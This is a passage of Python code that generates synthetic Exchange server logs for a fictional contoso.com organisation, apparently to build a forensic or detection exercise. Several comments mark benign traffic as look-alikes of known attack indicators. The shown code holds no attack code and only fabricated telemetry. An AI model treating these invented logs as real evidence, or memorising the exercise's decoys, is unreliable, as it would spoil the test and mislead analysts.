        client_ip=user_ip(ctx, user, 0.2),
        target=ctx.database_of(user)[2],
        request_bytes=rng.randint(330, 380),
        response_bytes=rng.randint(2800, 4200),
        taken=rng.randint(8, 90),
        backend_cookie=f"Database~{ctx.database_of(user)[1]}~~{(t + timedelta(days=30)):%Y-%m-%dT%H:%M:%S}",
    )
    authenticated(ctx, req, user, "NTLM")
    return challenge(ctx, req) if rng.random() < 0.08 else req


def gen_eas(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    command = weighted(
        rng, [("Ping", 5), ("Sync", 6), ("FolderSync", 1), ("SendMail", 1), ("ItemOperations", 1)]
    )
    via_seg = rng.random() < 0.2  # AirWatch Secure Email Gateway relays some devices
    ua = rng.choice(ctx.ua["airwatch"]) if via_seg else rng.choice(ctx.ua[user.device_family])
    ip = "10.0.5.20" if via_seg else user.remote_ip
    req = Request(
        time=t,
        protocol="Eas",
        method="POST",
        stem="/Microsoft-Server-ActiveSync/default.eas",
        query=f"Cmd={command}&User={user.upn.replace('@', '%40')}&DeviceId={user.device_id}"
        f"&DeviceType={user.device_type}",
        ua=ua,
        client_ip=ip,
        protocol_action=command,
        target=ctx.database_of(user)[2],
        request_bytes=rng.randint(13, 900),
        response_bytes=rng.randint(0, 24000),
        taken=rng.randint(480000, 900000) if command == "Ping" else rng.randint(20, 1400),
    )
    authenticated(ctx, req, user, "Basic")
    req.user = user.upn if rng.random() < 0.5 else user_domain(ctx, user)
    if rng.random() < 0.03:  # wrong stored password on a phone
        req.status, req.substatus, req.win32 = 401, 2, 5
        req.user, req.anchor, req.taken = "", "", rng.randint(100, 400)
    return req


def gen_owa(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    ua = ctx.ua["browser"][user.browser]
    ip = user_ip(ctx, user, 0.35)
    target = ctx.database_of(user)[2]
    kind = weighted(
        rng, [("service", 10), ("start", 2), ("logon", 1), ("auth", 1), ("static", 3), ("attach", 1)]
    )
    version = f"{ctx.build[0]}.{ctx.build[1]}.{ctx.build[2]}"
    if kind == "service":
        action = weighted(
            rng,
            [
                ("GetItem", 3),
                ("FindItem", 2),
                ("FindConversation", 2),
                ("GetConversationItems", 2),
                ("StartSyncConversation", 1),
                ("CreateItem", 1),
                ("GetCalendarView", 1),
            ],
        )
        req = Request(
            time=t,
            protocol="Owa",
            method="POST",
            stem="/owa/service.svc",
            query=f"action={action}&app=Mail&n={rng.randint(1, 120)}",
            protocol_action=action,
            referer="https://mail.contoso.com/owa/",
            request_bytes=rng.randint(400, 3000),
            response_bytes=rng.randint(300, 60000),
            taken=rng.randint(10, 400),
        )
    elif kind == "start":
        req = Request(
            time=t,
            protocol="Owa",
            method="GET",
            stem="/owa/",
            request_bytes=0,
            response_bytes=rng.randint(30000, 60000),
            taken=rng.randint(60, 600),
        )
    elif kind == "logon":
        req = Request(
            time=t,
            protocol="Owa",
            method="GET",
            stem="/owa/auth/logon.aspx",
            query="url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0",
            status=200,
            response_bytes=rng.randint(9000, 11000),
            taken=rng.randint(5, 40),
        )
        req.ua, req.client_ip, req.target = ua, ip, target
        return req
    elif kind == "auth":
        req = Request(
            time=t,
            protocol="Owa",
            method="POST",
            # Exchange 2010 posts the OWA logon form to owaauth.dll, 2013 and later to auth.owa.
            stem="/owa/auth.owa" if ctx.v15 else "/owa/auth/owaauth.dll",
            status=302,
            referer="https://mail.contoso.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2f"
            "mail.contoso.com%2fowa%2f",
            request_bytes=rng.randint(200, 300),
            taken=rng.randint(30, 200),
        )
    elif kind == "static":
        # Plain GETs of the logon page's theme files: the legitimate twin of the Volexity POSTs.
        stem = rng.choice(
            [
                f"/owa/auth/{version}/themes/resources/favicon.ico",
                "/owa/auth/Current/themes/resources/logon.css",
                f"/owa/prem/{version}/resources/styles/0/boot.worldwide.mouse.css",
                f"/owa/prem/{version}/scripts/boot.worldwide.0.mouse.js",
            ]
            if ctx.v15
            # Exchange 2010 serves OWA resources from a folder named after the full build.
            else [
                f"/owa/{build_plain(ctx.build)}/themes/base/logon.css",
                f"/owa/{build_plain(ctx.build)}/scripts/premium/uglobal.js",
            ]
        )
        req = Request(
            time=t,
            protocol="Owa",
            method="GET",
            stem=stem,
            status=rng.choice((200, 304)),
            response_bytes=rng.randint(0, 90000),
            taken=rng.randint(0, 20),
            referer="https://mail.contoso.com/owa/",
        )
        req.ua, req.client_ip, req.target = ua, ip, target
        if "/auth/" in stem:
            return req
    else:
        req = Request(
            time=t,
            protocol="Owa",
            method="GET",
            stem="/owa/service.svc/s/GetFileAttachment",
            query=f"id={hex_id(rng, 40)}&X-OWA-CANARY={hex_id(rng, 32)}",
            protocol_action="GetFileAttachment",
            response_bytes=rng.randint(20000, 4000000),
            taken=rng.randint(30, 2500),
            referer="https://mail.contoso.com/owa/",
        )
    req.ua, req.client_ip, req.target = ua, ip, target
    return authenticated(ctx, req, user, "Forms" if ctx.v15 else "Basic")


ECP_ADMIN_CMDS = [
    ("Get-Mailbox", "/ecp/DDI/DDIService.svc/GetList?schema=MailboxService"),
    ("Pipeline.1|Get-Recipient", "/ecp/DDI/DDIService.svc/GetList?schema=RecipientPickerService"),
    ("Get-MailboxStatistics", "/ecp/DDI/DDIService.svc/GetObject?schema=MailboxPropertiesService"),
    ("Get-DistributionGroup", "/ecp/DDI/DDIService.svc/GetList?schema=DistributionGroup"),
    ("Get-ExchangeServer", "/ecp/DDI/DDIService.svc/GetList?schema=ExchangeServer"),
    ("Get-MobileDevice", "/ecp/DDI/DDIService.svc/GetList?schema=MobileDevices"),
    ("Get-OwaVirtualDirectory", "/ecp/DDI/DDIService.svc/GetList?schema=OWAVirtualDirectory"),
    ("Get-ReceiveConnector", "/ecp/DDI/DDIService.svc/GetList?schema=ReceiveConnectors"),
]


def gen_ecp(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    if user.admin:
        cmd, url = rng.choice(ECP_ADMIN_CMDS)
        if rng.random() < 0.15:
            target = rng.choice(ctx.users)
            cmd = (
                f"Set-Mailbox.Identity='{ctx.org.dns}/Users/{target.display}'"
                f".ProhibitSendQuota='{rng.choice(('9.5 GB', '49.5 GB', '99 GB'))}'"
            )
            url = "/ecp/DDI/DDIService.svc/SetObject?schema=MailboxPropertiesService"
    else:
        cmd, url = rng.choice(
            [
                ("Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList"),
                (
                    "Get-MailboxAutoReplyConfiguration",
                    "/ecp/DDI/DDIService.svc/GetObject?schema=AutomaticReplies",
                ),
                ("Get-MobileDevice", "/ecp/DDI/DDIService.svc/GetList?schema=MobileDevices"),
            ]
        )
    url += ("&" if "?" in url else "?") + f"msExchEcpCanary={canary(rng)}"
    stem, _, query = url.partition("?")
    req = Request(
        time=t,
        protocol="Ecp",
        method="POST",
        stem=stem,
        query=query,
        ua=ctx.ua["browser"][user.browser],
        client_ip=user.workstation_ip,
        target=ctx.database_of(user)[2],
        referer="https://mail.contoso.com/ecp/",
        request_bytes=rng.randint(200, 2000),
        response_bytes=rng.randint(300, 30000),
        taken=rng.randint(20, 900),
        ecp_cmd=cmd,
        ecp_url=url,
    )
    return authenticated(ctx, req, user, "Forms" if ctx.v15 else "Basic")


def gen_oab(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    if rng.random() < 0.6:
        stem, ua = f"/OAB/{ctx.org.oab_guid}/oab.xml", ctx.ua["outlook"][user.outlook]
        size = rng.randint(1200, 1600)
    else:
        stem = f"/OAB/{ctx.org.oab_guid}/{ctx.org.oab_guid}-data-{rng.randint(1, 400)}.lzx"
        ua, size = ctx.ua["bits"][0], rng.randint(8000, 900000)
    req = Request(
        time=t,
        protocol="Oab",
        method="GET",
        stem=stem,
        ua=ua,
        client_ip=user_ip(ctx, user, 0.1),
        target=ctx.database_of(user)[2],
        response_bytes=size,
        taken=rng.randint(2, 300),
    )
    return authenticated(ctx, req, user, rng.choice(("Negotiate", "NTLM")))


def gen_rpchttp(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    method = rng.choice(("RPC_IN_DATA", "RPC_OUT_DATA"))
    port = rng.choice((6001, 6002, 6004))
    query = f"{user.mailbox_guid}@contoso.com:{port}" if ctx.v15 else f"{ctx.fqdn}:{port}"
    req = Request(
        time=t,
        protocol="RpcHttp",
        method=method,
        stem="/rpc/rpcproxy.dll",
        query=query,
        ua="MSRPC",
        client_ip=user_ip(ctx, user, 0.3),
        target=ctx.database_of(user)[2],
        request_bytes=rng.randint(76, 1073741824) if method == "RPC_IN_DATA" else 76,
        response_bytes=rng.randint(20, 4000),
        taken=rng.randint(30000, 900000),
    )
    authenticated(ctx, req, user, "NTLM")
    return challenge(ctx, req) if rng.random() < 0.05 else req


def gen_powershell(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    admin = rng.choice(ctx.org.admins)
    version = build_plain(ctx.build)
    query = (
        f"SerializationLevel=Full;ExchClientVer={version};clientApplication=ManagementShell;TargetServer=;"
        f"PSVersion={ctx.ua['psversion'][0]}"
    )
    cmdlets = rng.sample(
        [
            ("Get-Mailbox", f'-Identity "{rng.choice(ctx.users).upn}"'),
            ("Get-MailboxDatabaseCopyStatus", f'-Server "{ctx.netbios}"'),
            ("Get-ExchangeServer", ""),
            ("Get-Queue", ""),
            (
                "Get-MessageTrackingLog",
                f'-Start "{(t - timedelta(hours=2)):%m/%d/%Y %H:%M}" -ResultSize "1000"',
            ),
            ("Test-ServiceHealth", ""),
            ("Get-ExchangeCertificate", ""),
            ("Get-MailboxStatistics", f'-Identity "{rng.choice(ctx.users).upn}"'),
        ],
        k=rng.randint(1, 3),
    )
    req = Request(
        time=t,
        protocol="PowerShell",
        method="POST",
        stem="/powershell",
        query=query,
        url_host=ctx.fqdn,
        ua=ctx.ua["powershell"][0],
        client_ip=admin.workstation_ip,
        target=ctx.fqdn,
        request_bytes=rng.randint(1500, 9000),
        response_bytes=rng.randint(1000, 90000),
        taken=rng.randint(40, 4000),
        rps_cmdlets=cmdlets,
        rps_client="Microsoft WinRM Client",
    )
    return authenticated(ctx, req, admin, "Kerberos")


GENERATORS: dict[str, Callable[[Context, datetime, User], Request]] = {
    "Mapi": gen_mapi,
    "Ews": gen_ews,
    "Autodiscover": gen_autodiscover,
    "Eas": gen_eas,
    "Owa": gen_owa,
    "Ecp": gen_ecp,
    "Oab": gen_oab,
    "RpcHttp": gen_rpchttp,
    "PowerShell": gen_powershell,
}
PROTOCOL_WEIGHTS = {
    "Mapi": 22,
    "Ews": 14,
    "Autodiscover": 9,
    "Eas": 18,
    "Owa": 15,
    "Ecp": 3,
    "Oab": 3,
    "RpcHttp": 4,
    "PowerShell": 1,
}


def probe_requests(ctx: Context, hour: datetime) -> list[Request]:
    """Managed-availability probes (AMProbe, health mailbox, from the loopback address)."""
    rng = ctx.rng
    out = []
    probe_paths = {
        "Owa": "/owa/",
        "Ecp": "/ecp/",
        "Ews": "/ews/",
        "Mapi": "/mapi/",
        "Eas": "/Microsoft-Server-ActiveSync/",
        "Autodiscover": "/autodiscover/",
        "Oab": "/oab/",
        "RpcHttp": "/rpc/",
        "PowerShell": "/powershell",
    }
    for protocol in ctx.protocols:
        for _ in range(rng.randint(1, 2)):
            t = hour + timedelta(seconds=rng.randint(5, 3590), microseconds=rng.randint(0, 999) * 1000)
            loop = rng.choice(("127.0.0.1", "::1"))
            req = Request(
                time=t,
                protocol=protocol,
                method="GET",
                stem=probe_paths[protocol],
                url_host="localhost",
                ua="AMProbe/Local/ClientAccess",
                client_ip=loop,
                server_ip=loop,
                target=ctx.fqdn,
                taken=rng.randint(1, 30),
                response_bytes=rng.randint(100, 3000),
                iis_query="&encoding=;",
            )
            req.user = f"{ctx.org.netbios}\\{ctx.health_sam}"
            req.auth_type = "Negotiate"
            req.anchor = f"Sid~{user_sid(ctx, ctx.health_rid)}"
            req.routing_hint = "WindowsIdentity"
            if protocol == "PowerShell":
                req.method, req.rps_client = "POST", "Exchange BackEnd Probes"
                req.rps_cmdlets = [("Get-Mailbox", '-ResultSize "1"')]
            out.append(req)
    return out


def lb_checks(ctx: Context, start: datetime, count: int) -> list[Request]:
    """Load-balancer monitors fetching /owa/healthcheck.htm (answered by the front end, not proxied)."""
    rng = ctx.rng
    out = []
    for _ in range(count):
        t = start + timedelta(seconds=rng.randint(0, 3599), microseconds=rng.randint(0, 999) * 1000)
        stem = rng.choice(
            (
                "/owa/healthcheck.htm",
                "/owa/healthcheck.htm",
                "/ews/healthcheck.htm",
                "/mapi/healthcheck.htm",
                "/Microsoft-Server-ActiveSync/healthcheck.htm",
            )
        )
        if not ctx.v15:
            # healthcheck.htm arrived with Exchange 2013; monitors of 2010 fetch the OWA logon page.
            stem = "/owa/auth/logon.aspx"
        out.append(
            Request(
                time=t,
                protocol="Owa",
                method="GET",
                stem=stem,
                url_host=ctx.spec.ip,
                client_ip=rng.choice(("10.0.1.5", "10.0.1.6")),
                ua="",
                taken=0,
                proxied=False,
                iis_query="-",
                response_bytes=203,
            )
        )
    return out


@dataclass
class Traffic:
    requests: list[Request]
    hp_hours: list[datetime]  # hours whose hourly HttpProxy/Rps files were kept


def day_list(ctx: Context) -> list[date]:
    end = ctx.spec.collected_at.date()
    return [end - timedelta(days=n) for n in range(ctx.spec.window_days, -1, -1)]


def generate_traffic(ctx: Context, extra_hours: Iterable[datetime] = ()) -> Traffic:
    spec, rng = ctx.spec, ctx.rng
    days = day_list(ctx)
    collected = spec.collected_at
    # The triage copy keeps the oldest HttpProxy hour (coverage) and a sample of each dense day.
    hp_hours = {datetime(days[0].year, days[0].month, days[0].day, 9, tzinfo=UTC)}
    for day in spec.dense_days:
        for hour in SAMPLED_HOURS:
            hp_hours.add(datetime(day.year, day.month, day.day, hour, tzinfo=UTC))
    hp_hours.update(extra_hours)
    hp_sorted = sorted(h for h in hp_hours if h < collected)

    protocols = [p for p in ctx.protocols if p in PROTOCOL_WEIGHTS]
    weights = [PROTOCOL_WEIGHTS[p] for p in protocols]
    requests: list[Request] = []
    for day in days:
        dense = day in spec.dense_days
        count = spec.dense_requests if dense else spec.daily_requests
        if not dense and day.weekday() >= 5:
            count = max(4, count // 4)
        midnight = datetime(day.year, day.month, day.day, tzinfo=UTC)
        for _ in range(count):
            hour = rng.choices(range(24), weights=HOUR_WEIGHTS, k=1)[0]
            t = midnight + timedelta(
                hours=hour, seconds=rng.randint(0, 3599), microseconds=rng.randint(0, 999) * 1000
            )
            if t >= collected - timedelta(minutes=3):
                continue
            protocol = rng.choices(protocols, weights=weights, k=1)[0]
            # Most ECP traffic is administrators in the EAC; the rest is users' OWA options pages.
            pool = ctx.org.admins if protocol == "Ecp" and rng.random() < 0.6 else ctx.users
            user = rng.choice(pool)
            requests.append(GENERATORS[protocol](ctx, t, user))
        if "Ecp" in protocols and (day.weekday() < 5 or day == days[0]):
            # An administrator opens the EAC every working day, so the ECP log reaches back as far as
            # the others (coverage is judged by the oldest file of each source).
            t = midnight + timedelta(hours=rng.randint(8, 15), seconds=rng.randint(0, 3599))
            if t < collected - timedelta(minutes=3):
                daily = gen_ecp(ctx, t, ctx.org.admins[0])
                daily.target = ctx.fqdn  # the admin's EAC session is served by this server
                requests.append(daily)
        if ctx.spec.has_iis:
            hours = range(24) if dense else rng.sample(range(24), 3)
            for hour in hours:
                start = midnight + timedelta(hours=hour)
                if start + timedelta(hours=1) < collected:
                    requests.extend(lb_checks(ctx, start, 3 if dense else 2))
    for hour in hp_sorted:
        if hour + timedelta(hours=1) < collected:
            requests.extend(probe_requests(ctx, hour))
    for req in requests:
        if not req.request_id:
            req.request_id = new_guid(rng)
    return Traffic(requests=requests, hp_hours=hp_sorted)


# ---------------------------------------------------------------------------------------------
# Renderers
# ---------------------------------------------------------------------------------------------


def exchange_header(
    fields: list[str], version: Build, log_type: str, first: datetime, bare: bool
) -> list[str]:
    """Directive block of an Exchange CSV log; ``bare`` = Layout B (plain CSV header line first)."""
    lines = [",".join(fields)] if bare else []
    lines += [
        "#Software: Microsoft Exchange Server",
        f"#Version: {build_padded(version)}",
        f"#Log-type: {log_type}",
        f"#Date: {iso_ms(first)}",
        "#Fields: " + ",".join(fields),
    ]
    return lines


def httpproxy_row(ctx: Context, req: Request) -> str:
    b = ctx.build
    begin = req.time - timedelta(milliseconds=req.taken)
    values = {
        "DateTime": iso_ms(req.time),
        "RequestId": req.request_id,
        "MajorVersion": str(b[0]),
        "MinorVersion": str(b[1]),
        "BuildVersion": str(b[2]),
        "RevisionVersion": str(b[3]),
        "ClientRequestId": req.client_request_id,
        "Protocol": req.protocol,
        "UrlHost": req.url_host,
        "UrlStem": req.stem,
        "ProtocolAction": req.protocol_action,
        "AuthenticationType": req.auth_type,
        "IsAuthenticated": "true" if req.user else "false",
        "AuthenticatedUser": req.user,
        "AnchorMailbox": req.anchor,
        "UserAgent": no_commas(req.ua),
        "ClientIpAddress": req.client_ip,
        "ServerHostName": ctx.netbios,
        "HttpStatus": str(req.status),
        "Method": req.method,
    }
    if req.status == 401:
        values["GenericInfo"] = (
            f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;ProxyState-Run=None;"
            f"EndRequest={iso_ms(req.time)};"
        )
    else:
        state = "PrepareServerRequest" if req.ua.startswith("AMProbe") else "ProxyResponseData"
        values.update(
            {
                "BackEndStatus": str(req.status) if req.backend_status is None else req.backend_status,
                "ProxyAction": "Proxy",
                "TargetServer": req.target,
                "TargetServerVersion": "{}.{:02d}.{:04d}.000".format(*ctx.peer_builds.get(req.target, b)[:3]),
                "RoutingType": "IntraForest",
                "RoutingHint": req.routing_hint,
                "BackEndCookie": req.backend_cookie,
                "RequestBytes": str(req.request_bytes) if req.request_bytes else "",
                "ResponseBytes": str(req.response_bytes) if req.response_bytes else "",
                "TargetOutstandingRequests": "0",
                "CoreLatency": str(max(0, req.taken - 2)),
                "HttpProxyOverhead": str(min(req.taken, 2)),
                "TotalRequestTime": str(req.taken),
                "GenericInfo": (
                    f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;ProxyState-Run=None;"
                    f"FEAuth=BEVersion-{be_version(b)};ProxyState-Complete={state};SharedCacheGuard=0;"
                    f"EndRequest={iso_ms(req.time)};"
                ),
                "RoutingStatus": "CafeV1",
            }
        )
    values["UrlQuery"] = f"?{req.query}" if req.query else ""
    values.update(req.hp_fields)
    return csv_line(values.get(name, "") for name in HTTPPROXY_FIELDS)


def iis_row(ctx: Context, req: Request) -> str:
    if req.iis_query is not None:
        query = req.iis_query
    elif ctx.v15:
        # The 2013+ front end appends its correlation items to every query (log-formats.md §7).
        query = f"{req.query}&CorrelationID=<empty>;&cafeReqId={req.request_id};"
    else:
        query = req.query or "-"
    values = [
        f"{req.time:%Y-%m-%d}",
        f"{req.time:%H:%M:%S}",
        req.server_ip or ctx.spec.ip,
        req.method,
        req.stem,
        query.replace(" ", "+") or "-",
        "443",
        iis_value(req.user),
        req.client_ip,
        iis_value(req.ua),
        iis_value(req.referer),
        str(req.status),
        str(req.substatus),
        str(req.win32),
        str(req.taken),
    ]
    return " ".join(values)


def iis_header(ctx: Context, first: datetime) -> list[str]:
    major_minor = ".".join(ctx.spec.os_version.split(".")[:2])
    return [
        f"#Software: Microsoft Internet Information Services {IIS_SOFTWARE.get(major_minor, '10.0')}",
        "#Version: 1.0",
        f"#Date: {first:%Y-%m-%d %H:%M:%S}",
        "#Fields: " + " ".join(IIS_FIELDS),
    ]


def ecp_row(ctx: Context, req: Request, rng: random.Random) -> str:
    items = [
        ("TIME", str(max(1, req.taken - rng.randint(0, 5)))),
        ("SID", new_guid(rng)),
        ("CMD", req.ecp_cmd),
        ("REQID", ""),
        ("URL", req.ecp_url),
        ("REFERRER", ""),
        ("EX", ""),
        ("ACTID", new_guid(rng)),
        ("RS", "0"),
        ("BLD", build_plain(ctx.build)),
        ("TNAME", "<null>"),
        ("TID", ""),
        ("USID", new_guid(rng)),
        ("EDOID", ""),
        ("ACID", ""),
    ]
    return csv_line([iso_ms(req.time + timedelta(milliseconds=3)), ctx.netbios, "ECP.Request", bag(items)])


@dataclass
class Bundle:
    """In-memory bundle: relative path -> bytes. Written to disk in sorted order at the end."""

    name: str
    files: dict[str, bytes] = field(default_factory=dict)

    def add_bytes(self, relative: str, data: bytes) -> None:
        if relative in self.files:
            raise ValueError(f"{self.name}: {relative} written twice")
        self.files[relative] = data

    def add_lines(self, relative: str, lines: list[str], crlf: bool = True, bom: bool = False) -> None:
        newline = "\r\n" if crlf else "\n"
        text = newline.join(lines) + newline
        self.add_bytes(relative, (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))

    def add_windows_file(self, windows_path: str, lines: list[str], bom: bool = False) -> None:
        self.add_lines(windows_to_bundle(windows_path), lines, crlf=True, bom=bom)


def write_iis(ctx: Context, bundle: Bundle, requests: list[Request]) -> None:
    by_day: dict[date, list[Request]] = {}
    for req in requests:
        by_day.setdefault(req.time.date(), []).append(req)
    for day in sorted(by_day):
        rows = sorted(by_day[day], key=lambda r: r.time)
        lines = iis_header(ctx, rows[0].time)
        restart_at = None
        if ctx.spec.iis_restart == day:
            # An iisreset during maintenance: IIS starts a new directive block inside the same file.
            restart_at = datetime(day.year, day.month, day.day, 19, 30, 4, tzinfo=UTC)
        for req in rows:
            if restart_at is not None and req.time >= restart_at:
                lines += iis_header(ctx, restart_at)
                restart_at = None
            lines.append(iis_row(ctx, req))
        bundle.add_windows_file(f"C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex{day:%y%m%d}.log", lines)


def write_httpproxy(ctx: Context, bundle: Bundle, traffic: Traffic) -> None:
    kept = set(traffic.hp_hours)
    by_file: dict[tuple[str, datetime], list[Request]] = {}
    for req in traffic.requests:
        hour = req.time.replace(minute=0, second=0, microsecond=0)
        if req.proxied and hour in kept:
            by_file.setdefault((req.protocol, hour), []).append(req)
    for protocol, hour in sorted(by_file):
        rows = sorted(by_file[(protocol, hour)], key=lambda r: r.time)
        # The file is created when the hour's first request is logged.
        opened = hour + timedelta(milliseconds=11)
        lines = exchange_header(HTTPPROXY_FIELDS, ctx.cu_build, "HttpProxy Logs", opened, bare=True)
        lines += [httpproxy_row(ctx, req) for req in rows]
        path = ctx.ex(f"Logging\\HttpProxy\\{protocol}\\HttpProxy_{hour:%Y%m%d%H}-1.LOG")
        bundle.add_windows_file(path, lines, bom=ctx.spec.bom)


def write_ecp(ctx: Context, bundle: Bundle, traffic: Traffic, extra: list[tuple[datetime, str]]) -> None:
    """ECP Server log (Layout A), one file per day; ``extra`` holds pre-rendered rows."""
    rng = random.Random(f"{ctx.spec.name}:ecp")
    rows: list[tuple[datetime, str]] = list(extra)
    for req in traffic.requests:
        if req.ecp_cmd and req.status == 200 and req.target == ctx.fqdn:
            rows.append((req.time, ecp_row(ctx, req, rng)))
    by_day: dict[date, list[tuple[datetime, str]]] = {}
    for moment, line in rows:
        by_day.setdefault(moment.date(), []).append((moment, line))
    for day in sorted(by_day):
        entries = sorted(by_day[day], key=lambda e: e[0])
        opened = datetime(day.year, day.month, day.day, 0, 1, 18, 223000, tzinfo=UTC)
        lines = exchange_header(ECP_FIELDS, (15, 0, 0, 0), "ECP Server Log", opened, bare=False)
        # The published ECP header says "#Version: 15.0.0.0" (not zero-padded); keep it verbatim.
        lines[1] = "#Version: 15.0.0.0"
        lines += [line for _, line in entries]
        bundle.add_windows_file(
            ctx.ex(f"Logging\\ECP\\Server\\ECPServer{day:%Y%m%d}-1.LOG"), lines, bom=ctx.spec.bom
        )


def rps_cmdlet_row(
    ctx: Context, req: Request, cmdlet: str, params: str, offset_ms: int, rng: random.Random
) -> str:
    b = ctx.build
    probe = req.rps_client == "Exchange BackEnd Probes"
    start = req.time + timedelta(milliseconds=offset_ms)
    end = start + timedelta(milliseconds=rng.randint(5, 400))
    user = ctx.health_sam if probe else req.user.split("\\")[-1]
    rid = ctx.health_rid if probe else next((a.rid for a in ctx.org.admins if a.sam == user), 500)
    values = {
        "DateTime": iso_ms(end),
        "StartTime": iso_ms(start),
        "RequestId": req.request_id,
        "MajorVersion": str(b[0]),
        "MinorVersion": str(b[1]),
        "BuildVersion": str(b[2]),
        "RevisionVersion": str(b[3]),
        "ServerHostName": ctx.netbios,
        "ProcessId": str(4000 + ctx.health_rid),
        "ProcessName": "w3wp#MSExchangePowerShellAppPool",
        "ThreadId": str(rng.randint(5, 90)),
        "AuthenticatedUser": user,
        "ExecutingUserSid": user_sid(ctx, rid),
        "IsAdmin": "False" if probe else "True",
        "ClientApplication": "ActiveMonitor" if probe else "PowerShell",
        "Cmdlet": cmdlet,
        "Parameters": params,
        "CmdletUniqueId": new_guid(rng),
        "RunspaceSettingsCreationHint": "GCRandomly",
        "ADViewEntireForest": "False",
        "ADRecipientViewRoot": ctx.org.dns,
        "ADConfigurationDomainControllers": f"DC01.{ctx.org.dns}",
        "ADPreferredGlobalCatalogs": f"DC01.{ctx.org.dns}",
        "ADPreferredDomainControllers": f"DC01.{ctx.org.dns}",
        "OutputObjectCount": str(rng.randint(0, 40)),
        "TotalTime": str(int((end - start).total_seconds() * 1000)),
        "ExecutionResult": "Success",
        "GenericInfo": "" if probe else f"PSSenderInfo={req.user.split(chr(92))[-1]}@contoso.com;",
        "NonPiiParameters": params if probe or not params else _snip(params),
    }
    return csv_line(values.get(name, "") for name in RPS_CMDLET_FIELDS)


def _snip(params: str) -> str:
    # NonPiiParameters keeps parameter names and replaces quoted values by <SNIP-PII>.
    parts = params.split('"')
    return '"'.join(part if i % 2 == 0 else "<SNIP-PII>" for i, part in enumerate(parts))


def rps_http_row(ctx: Context, req: Request) -> str:
    b = ctx.build
    values = {
        "DateTime": iso_ms(req.time + timedelta(milliseconds=req.taken)),
        "StartTime": iso_ms(req.time),
        "RequestId": req.request_id,
        "MajorVersion": str(b[0]),
        "MinorVersion": str(b[1]),
        "BuildVersion": str(b[2]),
        "RevisionVersion": str(b[3]),
        "UrlHost": ctx.fqdn,
        "UrlStem": "/PowerShell",
        "AuthenticationType": req.auth_type,
        "IsAuthenticated": "true",
        "AuthenticatedUser": req.user,
        "ClientIpAddress": req.client_ip,
        "ServerHostName": ctx.netbios,
        "FrontEndServer": ctx.fqdn.upper(),
        "HttpStatus": "200",
        "SubStatus": "0",
        "RequestBytes": str(req.request_bytes or 1830),
        "ClientInfo": req.rps_client,
        "ActivityContextLifeTime": str(req.taken),
        "TotalTime": str(req.taken),
        "UrlQuery": f"?{req.query}" if req.query else "",
        "GenericInfo": (
            "WinRMDataSender.AuthenticationType=Sent;WinRMDataSender.NamedPipe=Sent;" if req.query else ""
        )
        + "OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;"
        + "S:ServiceCommonMetadata.HttpMethod=POST",
    }
    return csv_line(values.get(name, "") for name in RPS_HTTP_FIELDS)


def write_rps(ctx: Context, bundle: Bundle, traffic: Traffic) -> None:
    rng = random.Random(f"{ctx.spec.name}:rps")
    kept = set(traffic.hp_hours)
    http: dict[datetime, list[Request]] = {}
    for req in traffic.requests:
        hour = req.time.replace(minute=0, second=0, microsecond=0)
        if req.rps_cmdlets and hour in kept and req.status == 200:
            http.setdefault(hour, []).append(req)
    for hour in sorted(http):
        reqs = sorted(http[hour], key=lambda r: r.time)
        opened = hour + timedelta(milliseconds=127)
        lines = exchange_header(RPS_HTTP_FIELDS, ctx.cu_build, "Rps Http Logs", opened, bare=True)
        lines += [rps_http_row(ctx, req) for req in reqs]
        bundle.add_windows_file(
            ctx.ex(f"Logging\\CmdletInfra\\Powershell-Proxy\\Http\\Rps_Http_{hour:%Y%m%d%H}-1.LOG"),
            lines,
            bom=ctx.spec.bom,
        )
        lines = exchange_header(RPS_CMDLET_FIELDS, ctx.cu_build, "Rps Cmdlet Logs", opened, bare=True)
        for req in reqs:
            for index, (cmdlet, params) in enumerate(req.rps_cmdlets):
                lines.append(rps_cmdlet_row(ctx, req, cmdlet, params, 20 + 900 * index, rng))
        # A periodic summary row with an empty DateTime closes the file (log-formats.md §5).
        summary = {
            "RequestId": new_guid(rng),
            "MajorVersion": str(ctx.build[0]),
            "MinorVersion": str(ctx.build[1]),
            "BuildVersion": str(ctx.build[2]),
            "RevisionVersion": str(ctx.build[3]),
            "ServerHostName": ctx.netbios,
            "ActivityContextLifeTime": str(rng.randint(599000, 601000)),
        }
        lines.append(csv_line(summary.get(name, "") for name in RPS_CMDLET_FIELDS))
        bundle.add_windows_file(
            ctx.ex(f"Logging\\CmdletInfra\\Powershell-Proxy\\Cmdlet\\Rps_Cmdlet_{hour:%Y%m%d%H}-1.LOG"),
            lines,
            bom=ctx.spec.bom,
        )


def write_oabgen(ctx: Context, bundle: Bundle, extra: list[tuple[datetime, str, str]]) -> None:
    """OAB generator log: a run every 8 hours, one file per day; ``extra`` = (time, level, message)."""
    rng = random.Random(f"{ctx.spec.name}:oab")
    entries: list[tuple[datetime, str, str]] = list(extra)
    temp = ctx.ex("ClientAccess\\OAB\\Temp\\")
    for day in day_list(ctx):
        for hour in (2, 10, 18):
            start = datetime(
                day.year,
                day.month,
                day.day,
                hour,
                rng.randint(0, 9),
                rng.randint(0, 59),
                rng.randint(0, 999) * 1000,
                tzinfo=UTC,
            )
            if start >= ctx.spec.collected_at:
                continue
            entries.append(
                (
                    start,
                    "Information",
                    f"OABGeneratorAssistant started generation of OAB '\\Default Offline Address Book' "
                    f"({ctx.org.oab_guid}).",
                )
            )
            if rng.random() < 0.08:
                # Benign: the legitimate temp location (the exclusion of PL-26858-OABGEN).
                entries.append(
                    (
                        start + timedelta(seconds=2),
                        "Warning",
                        f"Download failed and temporary file '{temp}{new_guid(rng)}.tmp' "
                        "needs to be removed.",
                    )
                )
